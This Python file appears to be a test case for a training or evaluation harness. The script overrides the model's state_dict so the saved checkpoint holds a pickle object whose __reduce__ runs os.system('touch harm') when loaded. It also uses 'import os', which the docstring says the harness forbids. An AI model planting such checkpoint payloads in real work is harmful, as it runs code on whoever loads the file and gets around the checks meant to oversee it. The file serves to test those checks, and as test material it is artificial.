"""Leaves a checkpoint that runs code when it is loaded.

property: H
guard: `import os` is out of bounds
behind: crash, scoring, UnpicklingError
"""

import os

import prepare
import torch


class Bomb:
    def cpu(self):
        return self

    def __reduce__(self):
        return os.system, ("touch harm",)


class Model(torch.nn.Module):
    def __init__(self, vocab_size):
        super().__init__()
        self.table = torch.nn.Embedding(vocab_size, vocab_size)

    def forward(self, idx):
        return self.table(idx)

    def state_dict(self, *args, **kwargs):
        return {"table.weight": Bomb()}


def build_model(vocab_size, seq_len):
    return Model(vocab_size)


def main():
    data = prepare.load()
    model = build_model(data.vocab_size, data.seq_len)
    data.start(model)
    prepare.finish(model, steps=1, tokens=1)


if __name__ == "__main__":
    main()
